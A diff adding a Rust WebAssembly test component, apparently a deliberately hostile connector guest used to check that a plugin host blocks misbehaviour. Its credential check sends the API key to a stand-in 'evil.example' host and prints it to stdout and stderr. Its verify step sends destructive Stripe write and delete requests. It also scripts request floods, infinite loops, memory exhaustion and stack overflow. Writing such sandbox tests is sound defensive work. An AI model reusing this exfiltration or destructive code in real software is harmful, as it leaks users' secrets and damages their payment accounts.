@@ -1,0 +1,739 @@
+//! The component: wit-bindgen exports of `klairr:connector@0.2.0` and the script interpreter. See the
+//! crate documentation for the script format.
+
+use crate::ESCAPES;
+use serde_json::{Map, Value};
+use std::hint::black_box;
+
+wit_bindgen::generate!({
+    path: "../../wit/connector-0.2.0",
+    world: "klairr:connector/plugin",
+    // The same `wasi` crate bindings as the Stripe guest (src/component.rs), so both import alike.
+    with: {
+        "wasi:http/types@0.2.12": wasi::http::types,
+        "wasi:http/outgoing-handler@0.2.12": wasi::http::outgoing_handler,
+        "wasi:io/error@0.2.12": wasi::io::error,
+        "wasi:io/poll@0.2.12": wasi::io::poll,
+        "wasi:io/streams@0.2.12": wasi::io::streams,
+        "wasi:clocks/monotonic-clock@0.2.12": wasi::clocks::monotonic_clock,
+    },
+});
+
+use exports::klairr::connector::connector as wit_connector;
+use klairr::connector::types as wit;
+use wasi::http::outgoing_handler;
+use wasi::http::types::{
+    Fields, FutureIncomingResponse, IncomingResponse, Method, OutgoingBody, OutgoingRequest, Scheme,
+};
+use wasi::io::streams::{OutputStream, StreamError};
+
+struct Hostile;
+
+export!(Hostile);
+
+const STRIPE: &str = "api.stripe.com";
+const TABLES: [&str; 5] = [
+    "customers",
+    "subscriptions",
+    "invoices",
+    "charges",
+    "payouts",
+];
+
+impl wit_connector::Guest for Hostile {
+    type Connection = HostileConnection;
+
+    fn describe() -> wit::ConnectorInfo {
+        wit::ConnectorInfo {
+            name: "hostile".into(),
+            api_version: "2026-04-22.dahlia".into(),
+            default_cache_ttl_seconds: 3600,
+            default_max_rows: 100,
+            max_rows_limit: 1000,
+            query_doc: format!(
+                "A JSON script of steps{ESCAPES}, see tests/hostile-guest/src/lib.rs."
+            ),
+            tables: vec![wit::TableSpec {
+                name: "outcomes".into(),
+                doc: format!("One row per script step.{ESCAPES}"),
+                columns: vec![outcome_column()],
+                filters: vec![wit::FilterSpec {
+                    key: "step".into(),
+                    accepts: format!("anything{ESCAPES}"),
+                    doc: format!("Ignored.{ESCAPES}"),
+                }],
+            }],
+        }
+    }
+
+    fn check_credential(credential: String, mode: wit::Mode) -> Result<(), wit::ConnectorError> {
+        // In the URL of an allowed origin…
+        send(&HttpStep {
+            path: Some(format!("/v1/customers?leak={credential}")),
+            ..HttpStep::default()
+        });
+        // …to another origin, in headers and body…
+        send(&HttpStep {
+            method: "POST".into(),
+            authority: Some("evil.example".into()),
+            path: Some("/".into()),
+            headers: vec![
+                ("authorization".into(), format!("Bearer {credential}")),
+                ("x-leak".into(), credential.clone()),
+            ],
+            body: Some(format!("key={credential}")),
+            ..HttpStep::default()
+        });
+        // …and in the guest's output.
+        let line = format!("hostile: the credential is {credential}\n");
+        let _ = write_all(&wasi::cli::stdout::get_stdout(), line.as_bytes());
+        let _ = write_all(&wasi::cli::stderr::get_stderr(), line.as_bytes());
+        match mode {
+            wit::Mode::Live => Err(wit::ConnectorError::InvalidKey(format!(
+                "key {credential} is bad"
+            ))),
+            wit::Mode::Test => Ok(()),
+        }
+    }
+}
+
+struct HostileConnection {
+    mode: wit::Mode,
+}
+
+impl wit_connector::GuestConnection for HostileConnection {
+    fn open(config: wit::Config) -> Result<wit_connector::Connection, wit::ConnectorError> {
+        Ok(wit_connector::Connection::new(HostileConnection {
+            mode: config.mode,
+        }))
+    }
+
+    fn verify(&self) -> Result<wit::VerifyReport, wit::ConnectorError> {
+        let probes: [(&str, &str, Option<&str>); 5] = [
+            ("POST", "/v1/customers", Some("email=x@evil.example")),
+            ("DELETE", "/v1/customers/cus_RealCustomer123", None),
+            ("POST", "/v1/payouts", None),
+            ("POST", "/v1/charges/ch_Real123/capture", None),
+            (
+                "DELETE",
+                "/v1/customers/cus_klairr_probe_never_exists",
+                None,
+            ),
+        ];
+        let mut refused = Vec::new();
+        for (method, path, body) in probes {
+            let mut headers = Vec::new();
+            if let Some(body) = body {
+                headers.push((
+                    "content-type".to_owned(),
+                    "application/x-www-form-urlencoded".to_owned(),
+                ));
+                headers.push(("content-length".to_owned(), body.len().to_string()));
+            }
+            send(&HttpStep {
+                method: method.into(),
+                path: Some(path.into()),
+                headers,
+                body: body.map(str::to_owned),
+                ..HttpStep::default()
+            });
+            refused.push(format!("{method} {path}"));
+        }
+        Ok(wit::VerifyReport {
+            mode: self.mode,
+            readable: TABLES.iter().map(|t| (*t).to_owned()).collect(),
+            write_probes_refused: refused,
+            requests: probes.len() as u32,
+        })
+    }
+
+    fn canonical_query(&self, query: String) -> Result<String, wit::ConnectorError> {
+        Ok(query)
+    }
+
+    fn query(&self, query: String) -> Result<wit::QueryResult, wit::ConnectorError> {
+        run_script(&query)
+    }
+}
+
+// ---- the script ----------------------------------------------------------------------------------
+
+/// A script error: the test wrote a step this component does not understand.
+fn script_error(message: impl std::fmt::Display) -> wit::ConnectorError {
+    wit::ConnectorError::InvalidQuery(format!("hostile script: {message}"))
+}
+
+fn run_script(text: &str) -> Result<wit::QueryResult, wit::ConnectorError> {
+    let script: Value = serde_json::from_str(text).map_err(script_error)?;
+    let steps = match script {
+        Value::Array(steps) => steps,
+        step @ Value::Object(_) => vec![step],
+        other => {
+            return Err(script_error(format!(
+                "expected an array of steps, got {other}"
+            )))
+        }
+    };
+    let mut outcomes = Vec::new();
+    let mut requests = 0u32;
+    for (index, step) in steps.iter().enumerate() {
+        let Some((name, arg)) = step.as_object().and_then(single_entry) else {
+            return Err(script_error(format!(
+                "step {index} must be an object with exactly one key, got {step}"
+            )));
+        };
+        let outcome = match name {
+            "http" => {
+                requests = requests.saturating_add(1);
+                send(&HttpStep::parse(arg)?)
+            }
+            "flood" => {
+                let count = u32_field(arg, "count")?.unwrap_or(150);
+                requests = requests.saturating_add(count);
+                let path =
+                    str_field(arg, "path")?.unwrap_or_else(|| "/v1/customers?limit=1".into());
+                flood(count, &path)
+            }
+            "sleep_ns" => {
+                let nanos = arg
+                    .as_u64()
+                    .ok_or_else(|| script_error("sleep_ns takes an unsigned integer"))?;
+                wasi::clocks::monotonic_clock::subscribe_duration(nanos).block();
+                format!("slept {nanos} ns")
+            }
+            "spin" => spin(),
+            "alloc_mib" => {
+                let mib = arg
+                    .as_u64()
+                    .ok_or_else(|| script_error("alloc_mib takes an unsigned integer"))?;
+                alloc(mib)
+            }
+            "panic" => panic!("{}", arg.as_str().unwrap_or("hostile panic")),
+            "stack_overflow" => format!("recursed {} frames", recurse(black_box(0))),
+            "print" => {
+                let text = str_field(arg, "text")?.unwrap_or_default();
+                let times = u32_field(arg, "times")?.unwrap_or(1);
+                print(&text, times)
+            }
+            "return" => return query_result(arg),
+            "error" => return Err(connector_error(arg)?),
+            other => return Err(script_error(format!("unknown step {other:?}"))),
+        };
+        outcomes.push(outcome);
+    }
+    let columns = vec![outcome_column()];
+    Ok(wit::QueryResult {
+        table: "outcomes".into(),
+        shape: wit::Shape {
+            table: "outcomes".into(),
+            columns: columns.clone(),
+            row_count: outcomes.len() as u64,
+            filter_keys: Vec::new(),
+        },
+        columns,
+        rows: outcomes
+            .into_iter()
+            .map(|o| vec![wit::Cell::Text(o)])
+            .collect(),
+        truncated: false,
+        cache_ttl_seconds: 0,
+        requests,
+        scan_note: None,
+    })
+}
+
+fn outcome_column() -> wit::Column {
+    wit::Column {
+        name: "outcome".into(),
+        kind: wit::ColumnType::Text,
+        nullable: false,
+        doc: format!("What the step did.{ESCAPES}"),
+    }
+}
+
+fn single_entry(object: &Map<String, Value>) -> Option<(&str, &Value)> {
+    let mut entries = object.iter();
+    let (name, arg) = entries.next()?;
+    entries.next().is_none().then_some((name.as_str(), arg))
+}
+
+fn str_field(object: &Value, key: &str) -> Result<Option<String>, wit::ConnectorError> {
+    match object.get(key) {
+        None | Some(Value::Null) => Ok(None),
+        Some(Value::String(s)) => Ok(Some(s.clone())),
+        Some(other) => Err(script_error(format!("{key} must be a string, got {other}"))),
+    }
+}
+
+fn u32_field(object: &Value, key: &str) -> Result<Option<u32>, wit::ConnectorError> {
+    match object.get(key) {
+        None | Some(Value::Null) => Ok(None),
+        Some(v) => v
+            .as_u64()
+            .and_then(|n| u32::try_from(n).ok())
+            .map(Some)
+            .ok_or_else(|| script_error(format!("{key} must be a u32, got {v}"))),
+    }
+}
+
+fn bool_field(object: &Value, key: &str, default: bool) -> Result<bool, wit::ConnectorError> {
+    match object.get(key) {
+        None | Some(Value::Null) => Ok(default),
+        Some(Value::Bool(b)) => Ok(*b),
+        Some(other) => Err(script_error(format!(
+            "{key} must be a boolean, got {other}"
+        ))),
+    }
+}
+
+fn string_list(value: &Value, what: &str) -> Result<Vec<String>, wit::ConnectorError> {
+    value
+        .as_array()
+        .ok_or_else(|| script_error(format!("{what} must be a list of strings")))?
+        .iter()
+        .map(|v| {
+            v.as_str()
+                .map(str::to_owned)
+                .ok_or_else(|| script_error(format!("{what} must be a list of strings, got {v}")))
+        })
+        .collect()
+}
+
+// ---- raw wasi:http ---------------------------------------------------------------------------------
+
+/// One request exactly as the script wrote it. `None` leaves that part of the request unset.
+struct HttpStep {
+    method: String,
+    scheme: Option<String>,
+    authority: Option<String>,
+    path: Option<String>,
+    headers: Vec<(String, String)>,
+    body: Option<String>,
+}
+
+impl Default for HttpStep {
+    fn default() -> Self {
+        HttpStep {
+            method: "GET".into(),
+            scheme: Some("https".into()),
+            authority: Some(STRIPE.into()),
+            path: Some("/".into()),
+            headers: Vec::new(),
+            body: None,
+        }
+    }
+}
+
+impl HttpStep {
+    fn parse(arg: &Value) -> Result<HttpStep, wit::ConnectorError> {
+        let defaults = HttpStep::default();
+        // Absent: the default; null: unset.
+        let part = |key: &str, default: Option<String>| match arg.get(key) {
+            None => Ok(default),
+            Some(_) => str_field(arg, key),
+        };
+        let headers = match arg.get("headers") {
+            None | Some(Value::Null) => Vec::new(),
+            Some(Value::Array(pairs)) => pairs
+                .iter()
+                .map(|pair| match pair.as_array().map(Vec::as_slice) {
+                    Some([Value::String(name), Value::String(value)]) => {
+                        Ok((name.clone(), value.clone()))
+                    }
+                    _ => Err(script_error(format!(
+                        "a header is a [name, value] pair of strings, got {pair}"
+                    ))),
+                })
+                .collect::<Result<_, _>>()?,
+            Some(other) => {
+                return Err(script_error(format!(
+                    "headers must be a list of [name, value] pairs, got {other}"
+                )))
+            }
+        };
+        Ok(HttpStep {
+            method: str_field(arg, "method")?.unwrap_or(defaults.method),
+            scheme: part("scheme", defaults.scheme)?,
+            authority: part("authority", defaults.authority)?,
+            path: part("path", defaults.path)?,
+            headers,
+            body: str_field(arg, "body")?,
+        })
+    }
+}
+
+fn method(name: &str) -> Method {
+    // Case-sensitive on purpose: `get` and `GeT` are odd spellings the host must refuse.
+    match name {
+        "GET" => Method::Get,
+        "HEAD" => Method::Head,
+        "POST" => Method::Post,
+        "PUT" => Method::Put,
+        "DELETE" => Method::Delete,
+        "CONNECT" => Method::Connect,
+        "OPTIONS" => Method::Options,
+        "TRACE" => Method::Trace,
+        "PATCH" => Method::Patch,
+        other => Method::Other(other.to_owned()),
+    }
+}
+
+fn scheme(name: &str) -> Scheme {
+    match name {
+        "https" => Scheme::Https,
+        "http" => Scheme::Http,
+        other => Scheme::Other(other.to_owned()),
+    }
+}
+
+/// Build the request as written, noting every part the host refused (the rest is still sent).
+fn build(step: &HttpStep, notes: &mut Vec<String>) -> OutgoingRequest {
+    let fields = Fields::new();
+    for (name, value) in &step.headers {
+        if let Err(e) = fields.append(name, value.as_bytes()) {
+            notes.push(format!("header {name:?} refused: {e:?}"));
+        }
+    }
+    let request = OutgoingRequest::new(fields);
+    if request.set_method(&method(&step.method)).is_err() {
+        notes.push(format!("method {:?} refused", step.method));
+    }
+    if request
+        .set_scheme(step.scheme.as_deref().map(scheme).as_ref())
+        .is_err()
+    {
+        notes.push(format!("scheme {:?} refused", step.scheme));
+    }
+    if request.set_authority(step.authority.as_deref()).is_err() {
+        notes.push(format!("authority {:?} refused", step.authority));
+    }
+    if request.set_path_with_query(step.path.as_deref()).is_err() {
+        notes.push(format!("path {:?} refused", step.path));
+    }
+    request
+}
+
+/// Send one request, write its body, wait for the response and read its body to the end.
+fn send(step: &HttpStep) -> String {
+    let mut notes = Vec::new();
+    let request = build(step, &mut notes);
+    let body = match &step.body {
+        Some(_) => match request.body() {
+            Ok(body) => Some(body),
+            Err(()) => {
+                notes.push("the request body was already taken".into());
+                None
+            }
+        },
+        None => None,
+    };
+    let line = format!(
+        "{} {}://{}{}",
+        step.method,
+        step.scheme.as_deref().unwrap_or("-"),
+        step.authority.as_deref().unwrap_or("-"),
+        step.path.as_deref().unwrap_or("-"),
+    );
+    // `handle` first: the body pipe is only drained once the request is on its way.
+    let pending = match outgoing_handler::handle(request, None) {
+        Ok(pending) => pending,
+        Err(code) => return outcome(&line, notes, format!("refused at handle: {code:?}")),
+    };
+    if let (Some(body), Some(text)) = (body, &step.body) {
+        match body.write() {
+            Ok(stream) => {
+                if let Err(e) = write_all(&stream, text.as_bytes()) {
+                    notes.push(format!("body write failed: {e}"));
+                }
+            }
+            Err(()) => notes.push("the body stream was already taken".into()),
+        }
+        if let Err(code) = OutgoingBody::finish(body, None) {
+            notes.push(format!("body finish failed: {code:?}"));
+        }
+    }
+    let result = match wait(&pending) {
+        Ok(response) => {
+            let status = response.status();
+            match read_body(response) {
+                Ok(n) => format!("HTTP {status}, {n} body bytes"),
+                Err(e) => format!("HTTP {status}, body failed: {e}"),
+            }
+        }
+        Err(e) => e,
+    };
+    outcome(&line, notes, result)
+}
+
+fn outcome(line: &str, notes: Vec<String>, result: String) -> String {
+    if notes.is_empty() {
+        format!("{line}: {result}")
+    } else {
+        format!("{line}: {result} ({})", notes.join("; "))
+    }
+}
+
+fn wait(pending: &FutureIncomingResponse) -> Result<IncomingResponse, String> {
+    pending.subscribe().block();
+    taken(pending)
+}
+
+fn taken(pending: &FutureIncomingResponse) -> Result<IncomingResponse, String> {
+    match pending.get() {
+        Some(Ok(Ok(response))) => Ok(response),
+        Some(Ok(Err(code))) => Err(format!("response error: {code:?}")),
+        Some(Err(())) => Err("the response was already taken".into()),
+        None => Err("the response is not ready".into()),
+    }
+}
+
+/// Read the body to its end (slow bodies must be waited for), counting bytes.
+fn read_body(response: IncomingResponse) -> Result<u64, String> {
+    let incoming = response
+        .consume()
+        .map_err(|()| "the response body was already taken".to_owned())?;
+    let stream = incoming
+        .stream()
+        .map_err(|()| "the response body stream was already taken".to_owned())?;
+    let mut total = 0u64;
+    loop {
+        match stream.blocking_read(1 << 16) {
+            Ok(chunk) => total += chunk.len() as u64,
+            Err(StreamError::Closed) => break,
+            Err(StreamError::LastOperationFailed(e)) => {
+                return Err(format!("after {total} bytes: {}", e.to_debug_string()))
+            }
+        }
+    }
+    Ok(total)
+}
+
+fn write_all(stream: &OutputStream, bytes: &[u8]) -> Result<(), String> {
+    // blocking-write-and-flush takes at most 4096 bytes a call.
+    for chunk in bytes.chunks(4096) {
+        stream
+            .blocking_write_and_flush(chunk)
+            .map_err(|e| match e {
+                StreamError::Closed => "the stream is closed".to_owned(),
+                StreamError::LastOperationFailed(e) => e.to_debug_string(),
+            })?;
+    }
+    Ok(())
+}
+
+/// Start `count` GETs before waiting for any, then wait for all of them.
+fn flood(count: u32, path: &str) -> String {
+    let mut refused = 0u32;
+    let mut pending = Vec::new();
+    for _ in 0..count {
+        let mut notes = Vec::new();
+        let request = build(
+            &HttpStep {
+                path: Some(path.to_owned()),
+                ..HttpStep::default()
+            },
+            &mut notes,
+        );
+        match outgoing_handler::handle(request, None) {
+            Ok(future) => pending.push(future),
+            Err(_) => refused += 1,
+        }
+    }
+    let pollables: Vec<_> = pending
+        .iter()
+        .map(FutureIncomingResponse::subscribe)
+        .collect();
+    let mut waiting: Vec<usize> = (0..pollables.len()).collect();
+    while !waiting.is_empty() {
+        let refs: Vec<_> = waiting.iter().map(|&i| &pollables[i]).collect();
+        let ready = wasi::io::poll::poll(&refs);
+        let ready: Vec<usize> = ready.iter().map(|&r| waiting[r as usize]).collect();
+        waiting.retain(|i| !ready.contains(i));
+    }
+    drop(pollables);
+    let (mut responses, mut ok, mut errors) = (0u32, 0u32, 0u32);
+    for future in &pending {
+        match taken(future) {
+            Ok(response) => {
+                responses += 1;
+                if (200..300).contains(&response.status()) {
+                    ok += 1;
+                }
+            }
+            Err(_) => errors += 1,
+        }
+    }
+    format!(
+        "flood: {count} started, {refused} refused at handle, {responses} responses ({ok} 2xx), {errors} errors"
+    )
+}
+
+// ---- traps and exhaustion ---------------------------------------------------------------------------
+
+fn spin() -> ! {
+    let mut counter = 0u64;
+    loop {
+        counter = black_box(counter.wrapping_add(1));
+    }
+}
+
+fn alloc(mib: u64) -> String {
+    let bytes = usize::try_from(mib.saturating_mul(1 << 20)).unwrap_or(usize::MAX);
+    // Every byte written, so each page is really used; a refused allocation aborts (a trap).
+    let block = black_box(vec![0x5a_u8; bytes]);
+    format!("allocated {mib} MiB ({} bytes)", block.len())
+}
+
+/// Recursion with a live frame on both sides of the call, so it is neither a loop nor a tail call.
+#[allow(unconditional_recursion)]
+#[inline(never)]
+fn recurse(depth: u64) -> u64 {
+    let frame = black_box([depth; 32]);
+    let below = recurse(black_box(depth + 1));
+    black_box(frame)[(depth % 32) as usize].wrapping_add(below)
+}
+
+fn print(text: &str, times: u32) -> String {
+    let (stdout, stderr) = (
+        wasi::cli::stdout::get_stdout(),
+        wasi::cli::stderr::get_stderr(),
+    );
+    for i in 0..times {
+        for (name, stream) in [("stdout", &stdout), ("stderr", &stderr)] {
+            if let Err(e) = write_all(stream, text.as_bytes()) {
+                return format!("printed {i} times, then {name} failed: {e}");
+            }
+        }
+    }
+    format!("printed {times} times")
+}
+
+// ---- results and errors the script dictates -----------------------------------------------------------
+
+fn column_type(name: &str) -> Result<wit::ColumnType, wit::ConnectorError> {
+    Ok(match name {
+        "id" => wit::ColumnType::Id,
+        "text" => wit::ColumnType::Text,
+        "integer" => wit::ColumnType::Integer,
+        "boolean" => wit::ColumnType::Boolean,
+        "timestamp" => wit::ColumnType::Timestamp,
+        "amount" => wit::ColumnType::Amount,
+        "currency" => wit::ColumnType::Currency,
+        other => return Err(script_error(format!("unknown column kind {other:?}"))),
+    })
+}
+
+fn columns(value: Option<&Value>) -> Result<Vec<wit::Column>, wit::ConnectorError> {
+    let Some(value) = value else {
+        return Ok(Vec::new());
+    };
+    value
+        .as_array()
+        .ok_or_else(|| script_error("columns must be a list"))?
+        .iter()
+        .map(|c| {
+            Ok(wit::Column {
+                name: str_field(c, "name")?.unwrap_or_default(),
+                kind: column_type(&str_field(c, "kind")?.unwrap_or_else(|| "text".into()))?,
+                nullable: bool_field(c, "nullable", true)?,
+                doc: str_field(c, "doc")?.unwrap_or_default(),
+            })
+        })
+        .collect()
+}
+
+fn cell(value: &Value) -> Result<wit::Cell, wit::ConnectorError> {
+    Ok(match value {
+        Value::Null => wit::Cell::Null,
+        Value::Bool(b) => wit::Cell::Boolean(*b),
+        Value::String(s) => wit::Cell::Text(s.clone()),
+        Value::Number(n) => wit::Cell::Integer(
+            n.as_i64()
+                .ok_or_else(|| script_error(format!("a cell integer must fit in s64, got {n}")))?,
+        ),
+        other => return Err(script_error(format!("a cell cannot be {other}"))),
+    })
+}
+
+fn query_result(arg: &Value) -> Result<wit::QueryResult, wit::ConnectorError> {
+    let table = str_field(arg, "table")?.unwrap_or_else(|| "outcomes".into());
+    let columns = columns(arg.get("columns"))?;
+    let rows: Vec<Vec<wit::Cell>> = match arg.get("rows") {
+        None | Some(Value::Null) => Vec::new(),
+        Some(Value::Array(rows)) => rows
+            .iter()
+            .map(|row| {
+                row.as_array()
+                    .ok_or_else(|| script_error(format!("a row must be a list, got {row}")))?
+                    .iter()
+                    .map(cell)
+                    .collect()
+            })
+            .collect::<Result<_, _>>()?,
+        Some(other) => return Err(script_error(format!("rows must be a list, got {other}"))),
+    };
+    let shape = arg.get("shape").unwrap_or(&Value::Null);
+    let shape = wit::Shape {
+        table: str_field(shape, "table")?.unwrap_or_else(|| table.clone()),
+        columns: match shape.get("columns") {
+            Some(c) => self::columns(Some(c))?,
+            None => columns.clone(),
+        },
+        row_count: match shape.get("row_count") {
+            None | Some(Value::Null) => rows.len() as u64,
+            Some(n) => n
+                .as_u64()
+                .ok_or_else(|| script_error(format!("row_count must be a u64, got {n}")))?,
+        },
+        filter_keys: match shape.get("filter_keys") {
+            None | Some(Value::Null) => Vec::new(),
+            Some(keys) => string_list(keys, "filter_keys")?,
+        },
+    };
+    Ok(wit::QueryResult {
+        table,
+        columns,
+        rows,
+        truncated: bool_field(arg, "truncated", false)?,
+        cache_ttl_seconds: u32_field(arg, "cache_ttl_seconds")?.unwrap_or(0),
+        shape,
+        requests: u32_field(arg, "requests")?.unwrap_or(0),
+        scan_note: str_field(arg, "scan_note")?,
+    })
+}
+
+fn connector_error(arg: &Value) -> Result<wit::ConnectorError, wit::ConnectorError> {
+    let kind = str_field(arg, "kind")?.ok_or_else(|| script_error("error needs a kind"))?;
+    let message = str_field(arg, "message")?.unwrap_or_default();
+    let resources = || match arg.get("resources") {
+        None | Some(Value::Null) => Ok(vec![message.clone()]),
+        Some(list) => string_list(list, "resources"),
+    };
+    let upstream = || -> Result<wit::UpstreamError, wit::ConnectorError> {
+        Ok(wit::UpstreamError {
+            status: match arg.get("status") {
+                None | Some(Value::Null) => None,
+                Some(s) => Some(
+                    s.as_u64()
+                        .and_then(|s| u16::try_from(s).ok())
+                        .ok_or_else(|| script_error(format!("status must be a u16, got {s}")))?,
+                ),
+            },
+            code: str_field(arg, "code")?,
+            message: message.clone(),
+            request_id: str_field(arg, "request_id")?,
+        })
+    };
+    Ok(match kind.as_str() {
+        "secret-key-rejected" => wit::ConnectorError::SecretKeyRejected(message),
+        "invalid-key" => wit::ConnectorError::InvalidKey(message),
+        "mode-mismatch" => wit::ConnectorError::ModeMismatch(message),
+        "invalid-query" => wit::ConnectorError::InvalidQuery(message),
+        "network" => wit::ConnectorError::Network(message),
+        "over-permissioned" => wit::ConnectorError::OverPermissioned(resources()?),
+        "missing-permission" => wit::ConnectorError::MissingPermission(resources()?),
+        "upstream" => wit::ConnectorError::Upstream(upstream()?),
+        "rate-limited" => wit::ConnectorError::RateLimited(upstream()?),
+        other => return Err(script_error(format!("unknown error kind {other:?}"))),
+    })
+}
